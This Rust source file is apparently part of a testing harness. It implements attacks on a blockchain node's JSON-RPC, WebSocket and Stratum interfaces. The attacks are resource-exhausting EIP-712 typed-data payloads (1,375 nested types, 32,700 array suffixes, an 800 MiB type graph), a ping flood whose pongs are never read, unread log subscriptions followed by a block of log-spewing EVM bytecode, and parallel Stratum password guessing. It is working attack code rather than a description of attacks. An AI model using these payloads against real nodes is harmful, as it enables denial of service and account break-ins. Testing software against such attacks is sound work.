//! Attacks through JSON-RPC, WebSockets and Stratum.

use std::fmt::Write;
use std::time::{Duration, Instant};

use serde_json::json;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, sleep_until, timeout};

use super::scene::{AttackScene, AttackTarget};
use super::witness::{connect, post, read_head};
use super::{Attack, AttackDone};
use crate::Failure;

/// Types, each inside of the one before.
const NESTED_TYPES: usize = 1375;
/// Array suffixes of a type.
const ARRAY_SUFFIXES: usize = 32_700;
/// Types of the graph, each with two members of the next one. They expand to some 800 MiB.
const GRAPH_TYPES: usize = 21;
/// Connections that send pings.
const PING_CONNECTIONS: u32 = 8;
/// Pings that are written at once.
const PINGS_AT_ONCE: usize = 512;
/// Connections with a subscription.
const SUBSCRIBERS: usize = 300;
/// Rounds of the code that writes logs, and logs in a round. Their gas is that of a whole block.
const LOG_ROUNDS: u16 = 1450;
const LOGS_IN_ROUND: usize = 16;
/// Gas of the transaction with the logs.
const LOGS_GAS: u64 = 8_990_000;
/// Connections that try passwords.
const GUESSERS: u64 = 8;
/// Passwords that are tried on a connection before it is made again.
const GUESSES_ON_CONNECTION: u64 = 8;

/// Typed data as in the attack.
fn typed_data(attack: Attack) -> String {
    let mut types = String::from(r#""EIP712Domain":[]"#);
    let mut add = |name: usize, members: &str| {
        // Writing to a text does not fail.
        let _ = write!(types, r#","T{name}":[{members}]"#);
    };
    match attack {
        Attack::ArraySuffixes => {
            let suffixes = "[]".repeat(ARRAY_SUFFIXES);
            add(0, &format!(r#"{{"name":"a","type":"bool{suffixes}"}}"#));
        }
        Attack::TypeGraph => {
            for index in 0..GRAPH_TYPES {
                let next = index + 1;
                add(
                    index,
                    &format!(r#"{{"name":"a","type":"T{next}"}},{{"name":"b","type":"T{next}"}}"#),
                );
            }
            add(GRAPH_TYPES, r#"{"name":"a","type":"bool"}"#);
        }
        _ => {
            for index in 0..NESTED_TYPES {
                add(index, &format!(r#"{{"name":"a","type":"T{}"}}"#, index + 1));
            }
            add(NESTED_TYPES, r#"{"name":"a","type":"bool"}"#);
        }
    }
    format!(r#"{{"types":{{{types}}},"primaryType":"T0","domain":{{}},"message":{{}}}}"#)
}

/// Asks for a signature of typed data, again and again.
pub(super) async fn sign_typed_data(attack: Attack, target: &AttackTarget, end: Instant) -> AttackDone {
    let address = "0x0000000000000000000000000000000000000001";
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"eth_signTypedData_v4","params":["{address}",{}]}}"#,
        typed_data(attack)
    );
    let mut count = 0;
    let ask = async {
        loop {
            let asked = async {
                let mut stream = connect(target.sources.attacker(0), target.rpc).await?;
                post(&mut stream, &body).await
            };
            count += u64::from(asked.await.is_ok());
            sleep(Duration::from_millis(20)).await;
        }
    };
    let _: Result<(), _> = timeout(end.saturating_duration_since(Instant::now()), ask).await;
    AttackDone::times(count)
}

/// Opens a WebSocket.
async fn open_websocket(target: &AttackTarget, attacker: u32) -> Result<TcpStream, Failure> {
    let address = target.ws.ok_or("no WebSockets")?;
    let mut stream = connect(target.sources.attacker(attacker), address).await?;
    let request = "GET / HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
                   sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
    stream.write_all(request.as_bytes()).await?;
    let head = read_head(&mut stream).await?;
    match head.starts_with("HTTP/1.1 101 ") {
        true => Ok(stream),
        false => Err(head.into()),
    }
}

/// A frame of a client, whose mask changes nothing.
fn frame(opcode: u8, content: &[u8]) -> Vec<u8> {
    let mut frame = vec![0x80 | opcode];
    match u8::try_from(content.len()) {
        Ok(len) if len < 126 => frame.push(0x80 | len),
        _ => {
            frame.push(0x80 | 126);
            frame.extend_from_slice(&u16::try_from(content.len()).unwrap_or(u16::MAX).to_be_bytes());
        }
    }
    frame.extend_from_slice(&[0; 4]);
    frame.extend_from_slice(content);
    frame
}

/// Sends pings, and never reads the pongs.
pub(super) async fn ping_without_reading(target: &AttackTarget, end: Instant) -> AttackDone {
    let mut attackers = JoinSet::new();
    for attacker in 0..PING_CONNECTIONS {
        let target = target.clone();
        attackers.spawn(async move {
            let pings = frame(0x9, &[7; 125]).repeat(PINGS_AT_ONCE);
            let mut count = 0;
            let mut open = None;
            while Instant::now() < end {
                let sent = async {
                    if open.is_none() {
                        open = Some(open_websocket(&target, attacker).await?);
                    }
                    let stream = open.as_mut().ok_or("no connection")?;
                    Ok::<_, Failure>(stream.write_all(&pings).await?)
                };
                match timeout(end.saturating_duration_since(Instant::now()), sent).await {
                    Ok(Ok(())) => count += PINGS_AT_ONCE as u64,
                    Ok(Err(_)) => {
                        open = None;
                        sleep(Duration::from_millis(10)).await;
                    }
                    Err(_) => {}
                }
            }
            count
        });
    }
    AttackDone::times(attackers.join_all().await.iter().sum())
}

/// Code that writes so many logs that a block has no gas for more.
fn code_of_logs() -> String {
    let [high, low] = LOG_ROUNDS.to_be_bytes();
    // PUSH2 rounds, PUSH1 0. On the stack: the rounds, and 0 above them.
    let mut code = vec![0x61, high, low, 0x60, 0];
    let start = code.len() as u8;
    code.push(0x5b);
    // DUP1, DUP1, LOG0.
    code.extend([0x80, 0x80, 0xa0].repeat(LOGS_IN_ROUND));
    // SWAP1, PUSH1 1, SWAP1, SUB, SWAP1: one round less. DUP2, PUSH1 start, JUMPI. STOP.
    code.extend([0x90, 0x60, 1, 0x90, 0x03, 0x90, 0x81, 0x60, start, 0x57, 0x00]);
    code.iter().fold("0x".to_owned(), |mut text, byte| {
        let _ = write!(text, "{byte:02x}");
        text
    })
}

/// Subscribes to logs on many connections, and reads nothing. Then a block brings many logs.
pub(super) async fn subscribe_without_reading(
    scene: &AttackScene,
    end: Instant,
) -> Result<AttackDone, Failure> {
    let target = scene.target();
    let subscribe = r#"{"jsonrpc":"2.0","id":1,"method":"mc_subscribe","params":["logs",{}]}"#;
    let mut subscribers = Vec::new();
    for index in 0..SUBSCRIBERS {
        let mut stream = open_websocket(target, (index % 100) as u32).await?;
        stream.write_all(&frame(0x1, subscribe.as_bytes())).await?;
        let mut answer = [0; 64];
        stream.read_exact(&mut answer).await?;
        subscribers.push(stream);
    }
    let accounts = scene.call("mc_accounts", json!([]))?;
    let transaction = json!({
        "from": accounts[0],
        "data": code_of_logs(),
        "gas": format!("{LOGS_GAS:#x}"),
    });
    let hash = scene.call("mc_sendTransaction", json!([transaction]))?;
    scene.call("evm_mine", json!([]))?;
    let receipt = scene.call("mc_getTransactionReceipt", json!([hash]))?;
    let logs = receipt["logs"].as_array().map_or(0, Vec::len);
    if logs != usize::from(LOG_ROUNDS) * LOGS_IN_ROUND {
        return Err(format!("got {logs} logs in {}", receipt["status"]).into());
    }
    sleep_until(end.into()).await;
    Ok(AttackDone::times(subscribers.len() as u64))
}

/// Tries passwords of Stratum on many connections.
pub(super) async fn guess_passwords(target: &AttackTarget, end: Instant) -> AttackDone {
    let mut attackers = JoinSet::new();
    for attacker in 0..GUESSERS {
        let target = target.clone();
        attackers.spawn(async move {
            let (mut tried, mut judged) = (0, 0);
            while Instant::now() < end {
                let first = attacker * 1_000_000_000 + tried;
                let guess = guess_on_connection(&target, first, &mut judged);
                // The reason for the end of the connection does not matter.
                let _ = timeout(Duration::from_secs(1), guess).await;
                tried += GUESSES_ON_CONNECTION;
            }
            (tried, judged)
        });
    }
    let all = attackers.join_all().await;
    AttackDone {
        count: all.iter().map(|(tried, _)| tried).sum(),
        judged: Some(all.iter().map(|(_, judged)| judged).sum()),
        honest: None,
    }
}

/// Tries passwords on a connection until it ends.
async fn guess_on_connection(target: &AttackTarget, first: u64, judged: &mut u64) -> Result<(), Failure> {
    let address = target.stratum.ok_or("no Stratum")?;
    // All come from one address.
    let stream = connect(target.sources.attacker(0), address).await?;
    let mut stream = BufReader::new(stream);
    let lines: String = (first..first + GUESSES_ON_CONNECTION)
        .map(|guess| {
            let login = json!({"id": 1, "method": "eth_submitLogin", "params": ["a.b", guess.to_string()]});
            format!("{login}\n")
        })
        .collect();
    stream.write_all(lines.as_bytes()).await?;
    let mut answer = String::new();
    while stream.read_line(&mut answer).await? > 0 {
        *judged += u64::from(answer.contains("Invalid login"));
        answer.clear();
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn typed_data_are_json() {
        for (attack, types) in [
            (Attack::NestedTypes, NESTED_TYPES + 2),
            (Attack::ArraySuffixes, 2),
            (Attack::TypeGraph, GRAPH_TYPES + 2),
        ] {
            let data: serde_json::Value = serde_json::from_str(&typed_data(attack)).expect("JSON");
            assert_eq!(data["types"].as_object().map(serde_json::Map::len), Some(types));
        }
    }
}
